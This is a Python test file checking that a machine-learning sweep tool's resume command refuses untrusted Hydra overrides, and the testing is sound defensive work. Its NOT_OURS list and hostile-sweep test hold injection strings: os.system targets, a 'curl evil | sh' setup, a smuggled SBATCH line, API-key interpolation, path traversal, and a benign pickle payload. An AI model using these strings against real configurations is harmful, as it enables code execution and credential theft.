"""What `sweep resume` takes from a folder that may come from anybody, and what it leaves to its user."""

import json
import pickle
from pathlib import Path

import pytest

from learning_to_learn.commands import sweep, train
from learning_to_learn.errors import UserError
from learning_to_learn.jobs.recorded_words import resumed_words, why_not
from learning_to_learn.runs.run_folder import Status
from learning_to_learn.runs.sweep_folder import survey
from tests.commands.test_train import SMALL

OURS = [
    "arch=lstm,elman",
    "arch=glob(*)",
    "family=boolean",
    "experiment=null",
    "experiment=held_out",
    "sweep=learning_rate",
    "launcher=joblib",
    "launcher.jobs=2",
    "launcher.cores=null",
    "launcher.address=auto",
    "optimizer.lr=0.01,0.1",
    "optimizer.lr=interval(0.001,0.1)",
    "seed=range(0,3)",
    "arch.layers=[{neuron: 4}],[{neuron: 8}]",
    "arch.bias={input_gate: -1}",
    "arch.name=my-net",
    "logger.group='a b, c'",
    "hydra/sweeper=optuna",
    "hydra/sweeper/sampler=random",
    "hydra.sweeper.direction=maximize",
    "hydra.sweeper.params={optimizer.lr: 'interval(0.001,0.1)'}",
    "hydra/launcher=joblib",
    "hydra.launcher.partition=gpu,cpu",
    "hydra.launcher.timeout_min=60",
    "hydra.sweep.subdir=jobs/one",
]
NOT_OURS = [
    "+hydra.callbacks.e={_target_: joblib.load, filename: evil.pkl}",
    "++seed=1",
    "~trainer.curriculum",
    "hydra.callbacks={e: {_target_: shutil.copy, src: a, dst: b}}",
    "hydra.callbacks.sweep._target_=os.system",
    "hydra.job_logging.handlers.file={class: logging.FileHandler, filename: x}",
    "hydra.hydra_logging={}",
    "hydra/job_logging=default",
    "hydra.job.env_set.PATH=/evil",
    "hydra.job.chdir=true",
    "hydra.run.dir=/home",
    "hydra.sweep.dir=/home",
    "hydra.sweep.subdir=../../out",
    "hydra.sweep.subdir=/home/x",
    "hydra.sweep.subdir=${oc.env:HOME}",
    "hydra.searchpath=[file:///evil]",
    "hydra.mode=RUN",
    "hydra.launcher._target_=os.system",
    "hydra.launcher.setup=['curl evil | sh']",
    "hydra.launcher.submitit_folder=/home",
    "hydra.launcher.additional_parameters={wrap: x}",
    "hydra.launcher.partition='a\n#SBATCH --wrap=evil'",
    "hydra.launcher.ray.init.address=evil:6379",
    "hydra.launcher.temp_folder=/home",
    "launcher.address=ray://evil:10001",
    "launcher.address=evil:6379",
    "launcher.jobs={_target_: os.system}",
    "launcher={name: ray}",
    "hydra/launcher=custom",
    "hydra/sweeper=mine",
    "hydra.sweeper._target_=os.system",
    "hydra.sweeper.sampler._target_=os.system",
    "hydra.sweeper.sampler={_target_: os.system}",
    "hydra.sweeper.storage=mysql://evil/x",
    "hydra.sweeper.params={+hydra.callbacks.x: 1}",
    "hydra.sweeper.params={hydra.launcher.setup: '[x]'}",
    "arch=../../evil",
    "arch=[lstm]",
    "arch@hydra.launcher=lstm",
    "arch.name=../../out",
    "arch.name=${oc.env:WANDB_API_KEY}",
    "arch.bias={a: '${oc.env:HOME}'}",
    "arch.bias={a: [{_target_: os.system}]}",
    "arch.bias={_target_: os.system},{a: 1}",
    "arch._target_=os.system",
    "plugins=[evil.py]",
    "nonsense.key=1",
    "--config-dir=/evil",
    "--multirun",
    "-cp=/evil",
    "",
    "=",
    "x",
    "(((",
]


@pytest.mark.parametrize("word", OURS)
def test_a_plain_value_of_a_key_of_ours_is_taken(word):
    assert why_not(word) == ""


@pytest.mark.parametrize("word", NOT_OURS)
def test_anything_else_is_not(word):
    assert why_not(word)


def test_what_is_refused_can_be_given_again(tmp_path):
    recorded = ["arch=lstm", "+hydra.launcher.x=1", "launcher=basic"]
    with pytest.raises(UserError, match=r"\+hydra\.launcher\.x=1, which is not taken.*resume .* -- \+hydra") as caught:
        resumed_words(recorded, [], tmp_path)
    assert "\n" not in str(caught.value)
    assert resumed_words(recorded, ["+hydra.launcher.x=1"], tmp_path) == ["arch=lstm", "launcher=basic", "+hydra.launcher.x=1"]
    given = ["+hydra.launcher.x=2", "launcher=joblib"]
    assert resumed_words(recorded, given, tmp_path) == ["arch=lstm", *given]
    with pytest.raises(UserError, match=r"trainer\.epochs=9 would change the jobs"):
        resumed_words(["arch=lstm"], ["trainer.epochs=9"], tmp_path)


class Evil:
    def __reduce__(self):
        return Path.touch, (Path("hacked"),)


EVIL = Path("evil.pkl")


@pytest.mark.parametrize(
    "word",
    [
        "+hydra.callbacks.e={_target_: joblib.load, filename: evil.pkl}",
        "+hydra.callbacks.e={_target_: shutil.copy, src: evil.pkl, dst: hacked}",
        "+hydra.job_logging.handlers.h={class: logging.FileHandler, filename: hacked}",
        "+hydra.job.env_set.HACKED=1",
        "--config-dir=.",
        "plugins=[evil.py]",
    ],
)
def test_a_hostile_sweep_runs_nothing_and_is_one_line(word):
    EVIL.write_bytes(pickle.dumps(Evil()))
    Path("evil.py").write_text("from pathlib import Path\nPath('hacked').touch()\n")
    Path("s").mkdir()
    asked = {"arguments": ["arch=elman", *SMALL, word], "jobs": [["arch=elman"]], "launcher": "basic", "in_this_process": True}
    Path("s/sweep.json").write_text(json.dumps({**asked, "started": 0.0}))
    with pytest.raises(UserError) as caught:
        sweep._main(["resume", "s"])
    assert "\n" not in str(caught.value)
    assert not Path("hacked").exists()
    assert sorted(p.name for p in Path("s").iterdir()) == ["sweep.json"]


def test_a_sweep_that_added_a_key_is_resumed_with_it():
    words = ["arch=elman", "seed=0,10", *SMALL, "+hydra.job.env_set.HARMLESS=1", "hydra.sweep.dir=s"]
    assert train._main(["-m", *words]) == 0
    with pytest.raises(UserError, match="give it again"):
        sweep._main(["resume", "s"])
    assert sweep._main(["resume", "s", "+hydra.job.env_set.HARMLESS=1"]) == 0
    assert [job.status for job in survey(Path("s"))] == [Status.FINISHED] * 2


def test_a_configuration_with_an_interpolation_is_refused_not_printed(monkeypatch):
    train._main(["arch=elman", *SMALL, "hydra.run.dir=run"])
    monkeypatch.setenv("WANDB_API_KEY", "secret-key")
    text = Path("run/config.yaml").read_text().replace("name: elman", "name: ${oc.env:WANDB_API_KEY}")
    Path("run/config.yaml").write_text(text)
    Path("run/status.json").unlink()
    with pytest.raises(UserError, match="interpolation") as caught:
        train._main(["resume=run"])
    assert "secret-key" not in str(caught.value)
